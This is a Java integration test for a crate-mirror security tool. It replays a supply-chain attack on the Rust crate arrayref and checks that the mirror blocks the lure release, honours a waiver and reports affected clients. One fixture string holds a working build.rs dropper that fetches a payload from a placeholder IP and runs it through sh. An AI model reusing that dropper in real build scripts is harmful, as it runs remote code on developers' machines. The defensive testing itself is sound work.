package dev.cratewarden.cargo;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.MissingNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.Arrays;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * The attack of 20 August 2026 as those lived through it who had nothing but a mirror that watches: no advisory is
 * loaded, no cooldown is set, the policy is the one that comes with the product.
 *
 * <p>{@code arrayref} has slept for years. Somebody takes it over, publishes {@code proc-macro1}, whose build script is
 * a dropper, yanks the good releases of {@code arrayref} as a lure, and publishes 0.3.10, which needs it. The story is
 * told in order, up to the advisory, which comes when it is too late for two.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
@Timeout(600)
class AnomalyStoryIT {
  private static final String SETTINGS =
      """
      [cache]
      index-fresh = "1s"

      [[feed]]
      kind = "rustsec"
      from = "%s"
      every = "1s"
      """;

  /** One team believes that it knows better, and says until when. */
  private static final String POLICY =
      """
      [[view]]
      name = "trusting"
      [[view.waiver]]
      crate = "arrayref"
      versions = "=0.3.10"
      finding = "anomaly.combination"
      until = 2999-12-31
      owner = "team-blue@example.com"
      reason = "we need the fix today"
      """;

  private static final String DROPPER =
      """
      use std::io::Read;
      use std::process::Command;
      fn main() {
          let mut payload = Vec::new();
          if let Ok(mut peer) = std::net::TcpStream::connect("198.51.100.7:443") {
              let _ = peer.read_to_end(&mut payload);
          }
          let path = std::env::temp_dir().join("rustc-helper");
          std::fs::write(&path, payload).ok();
          let _ = Command::new("sh").arg("-c").arg(path).spawn();
      }
      """;

  private static final String USES = "arrayref = \"0.3.5\"\n";
  private static final String CALLS = "fn main() { println!(\"{}\", arrayref::arrayref()); }\n";

  private static final JsonMapper JSON = JsonMapper.builder().build();

  @TempDir static Path folder;

  private final Instant now = Instant.now().truncatedTo(ChronoUnit.SECONDS);
  private String lockfile;
  private TestRegistry registry;
  private ServerProcess mirror;

  @BeforeAll
  void anOrdinaryDay() {
    registry = TestRegistry.start().publish(TestCrate.library("bystander@1.0.0").dependsOn("arrayref", "0.3"));
    releasesOf2021(false);
    Path settings = folder.resolve("cratewarden.toml");
    Path policy = folder.resolve("policy.toml");
    // There is nothing in that place until the advisory comes.
    ScratchCargo.write(settings, SETTINGS.formatted(folder.resolve("feed/rustsec")));
    ScratchCargo.write(policy, POLICY);
    mirror =
        ServerProcess.start(
            folder,
            "--config",
            settings.toString(),
            "--upstream-index",
            registry.index(),
            "--policy",
            policy.toString());
  }

  private void releasesOf2021(boolean yanked) {
    for (int patch = 5; patch <= 9; patch++) {
      TestCrate good = TestCrate.library("arrayref@0.3." + patch).published("2021-01-0" + patch + "T00:00:00Z");
      registry.publish(yanked ? good.yanked() : good);
    }
  }

  @AfterAll
  void stop() {
    mirror.close();
    registry.close();
  }

  private ScratchCargo through(String view) {
    return ScratchCargo.through(mirror.url() + view + "/index/", folder.resolve("cargo" + view.replace('/', '-')))
        .forgetDownloads();
  }

  @Test
  @Order(1)
  void beforeTheAttackBuildsUseTheLastGoodRelease() {
    ScratchCargo cargo = through("");
    Path app = cargo.project("app", USES, CALLS);
    ScratchCargo.Run run = cargo.run(app, "run");
    assertThat(run.succeeded()).as(run.out()).isTrue();
    assertThat(run.out()).contains("0.3.9");
    lockfile = ScratchCargo.read(app.resolve("Cargo.lock"));
  }

  @Test
  @Order(2)
  void theAttackHappensAndTheMirrorMarksTheLureAsYankedInItsIndex() {
    registry.page("/index/ar/ra/arrayref", "");
    releasesOf2021(true);
    registry.publish(
        TestCrate.library("proc-macro1@1.0.107")
            .published(now.minus(Duration.ofMinutes(75)).toString())
            .file("build.rs", DROPPER),
        TestCrate.library("arrayref@0.3.10")
            .dependsOn("proc-macro1", "1")
            .published(now.minus(Duration.ofMinutes(62)).toString()));

    assertThat(Eventually.holds(() -> mirror.get("/index/ar/ra/arrayref").body().contains("0.3.10"))).isTrue();

    String lure =
        mirror.get("/index/ar/ra/arrayref").body().lines().filter(it -> it.contains("0.3.10")).findFirst().orElse("");
    assertThat(lure).contains("\"yanked\":true");
  }

  @Test
  @Order(3)
  void whoResolvesAnewDoesNotGetIt() {
    ScratchCargo cargo = through("");
    Path lured = cargo.project("lured", "bystander = \"1\"\n", "fn main() {}\n");
    assertThat(cargo.run(lured, "fetch").succeeded()).isFalse();
    assertNobodyFetched("arrayref-0.3.10", "proc-macro1-1.0.107");
  }

  @Test
  @Order(4)
  void whoHasALockfileBuildsOn() {
    ScratchCargo cargo = through("");
    Path app = cargo.project("locked", USES, CALLS);
    ScratchCargo.write(app.resolve("Cargo.lock"), lockfile.replace("name = \"app\"", "name = \"locked\""));
    ScratchCargo.Run run = cargo.run(app, "run", "--locked");
    assertThat(run.succeeded()).as(run.out()).isTrue();
    assertThat(run.out()).contains("0.3.9");
  }

  /** As a lockfile would that somebody made elsewhere. */
  @Test
  @Order(5)
  void whoAsksForItByNameIsToldWhatIsOdd() {
    HttpResponse<String> held = mirror.get("/crates/arrayref/0.3.10/download");

    assertThat(held.statusCode()).isEqualTo(403);
    assertThat(held.body())
        .startsWith(
            "cratewarden holds arrayref 0.3.10 until "
                + now.minus(Duration.ofMinutes(62)).plus(Duration.ofDays(3))
                + ": looks like an attack: ")
        .contains("5 earlier versions were yanked around its release")
        .contains("it newly needs proc-macro1, a crate 13 minutes old")
        .contains("nearest allowed: 0.3.9", "rule: anomalies.together", "/why/arrayref/0.3.10");
    assertThat(held.body().getBytes(StandardCharsets.UTF_8).length).isLessThanOrEqualTo(512);
    assertNobodyFetched("arrayref-0.3.10");
  }

  @Test
  @Order(6)
  void theDropperItselfIsHeldOnceItsTarballHasBeenRead() {
    HttpResponse<String> held = mirror.get("/crates/proc-macro1/1.0.107/download");

    assertThat(held.statusCode()).isEqualTo(403);
    assertThat(held.body())
        .startsWith("cratewarden holds proc-macro1 1.0.107 until ")
        .contains("downloads and runs programs")
        .contains("it is the crate's first release")
        .contains("its name is easily taken for proc-macro2");
    assertThat(mirror.get("/index/pr/oc/proc-macro1").body()).contains("\"yanked\":true");
  }

  @Test
  @Order(7)
  void whoWantsToKnowMoreIsShownEveryOddity() {
    assertThat(mirror.get("/why/arrayref/0.3.10").body())
        .contains(
            "anomaly.combination",
            "anomaly.yank-lure",
            "anomaly.new-dependency-is-new",
            "anomaly.new-dependency-near-popular",
            "anomaly.dormant-wakes",
            "finding = \"anomaly.combination\"");
  }

  /** Two clients, by a waiver that names one finding of one version. */
  @Test
  @Order(8)
  void aTeamWithAWaiverIsLetThroughAndNobodyElse() {
    for (String machine : new String[] {"blue-1", "blue-2"}) {
      HttpResponse<String> given =
          mirror.get("/views/trusting/crates/arrayref/0.3.10/download", "User-Agent", "cargo (" + machine + ")");
      assertThat(given.statusCode()).isEqualTo(200);
    }
    assertThat(mirror.get("/crates/arrayref/0.3.10/download", "User-Agent", "cargo (green-1)").statusCode())
        .isEqualTo(403);
    assertThat(mirror.get("/views/trusting/crates/proc-macro1/1.0.107/download").statusCode()).isEqualTo(403);
  }

  @Test
  @Order(9)
  void whenTheAdvisoryComesTheReportNamesExactlyThoseTwo() throws IOException {
    assertThat(retroactive().path("changes")).as("before it comes").isEmpty();

    TestFeed.in(folder.resolve("feed"))
        .malware("RUSTSEC-2026-0260", "arrayref", "`arrayref` 0.3.10 was removed from crates.io", "\"<= 0.3.9\"");
    assertThat(command("feeds", "update").status()).isEqualTo(0);

    assertThat(Eventually.holds(() -> mirror.log().contains("judged otherwise than before"))).isTrue();
    assertThat(Eventually.holds(() -> !trusted(retroactive()).isMissingNode())).isTrue();
    JsonNode change = trusted(retroactive());
    assertThat(change.path("crate").asText()).isEqualTo("arrayref");
    assertThat(change.path("version").asText()).isEqualTo("0.3.10");
    assertThat(change.path("before").asText()).isEqualTo("allow");
    assertThat(change.path("verdict").asText()).isEqualTo("deny");
    assertThat(change.path("grounds").toString()).contains("RUSTSEC-2026-0260");
    assertThat(change.path("receivers"))
        .extracting(it -> it.path("userAgent").asText())
        .containsExactlyInAnyOrder("cargo (blue-1)", "cargo (blue-2)");
    ServerProcess.Run told = command("retroactive");
    assertThat(told.status()).isEqualTo(1);
    assertThat(told.out()).contains("received by 2 clients", "blue-1", "blue-2").doesNotContain("green-1");
    assertThat(mirror.get("/views/trusting/crates/arrayref/0.3.10/download").statusCode())
        .as("a waiver of one finding is none of another")
        .isEqualTo(403);
  }

  private JsonNode retroactive() {
    String text = command("retroactive", "--json").out();
    try {
      return JSON.readTree(text);
    } catch (IOException e) {
      throw new UncheckedIOException(text, e);
    }
  }

  private static ServerProcess.Run command(String... arguments) {
    String[] all = Arrays.copyOf(arguments, arguments.length + 2);
    all[arguments.length] = "--data";
    all[arguments.length + 1] = folder.resolve("data").toString();
    return ServerProcess.run(folder, all);
  }

  /** The change in the view with the waiver. */
  private static JsonNode trusted(JsonNode report) {
    for (JsonNode change : report.path("changes")) {
      if (change.path("view").asText().equals("trusting")) {
        return change;
      }
    }
    return MissingNode.getInstance();
  }

  private void assertNobodyFetched(String... tarballs) {
    for (String tarball : tarballs) {
      assertThat(registry.requests).noneMatch(it -> it.endsWith("/" + tarball + ".crate"));
    }
  }
}
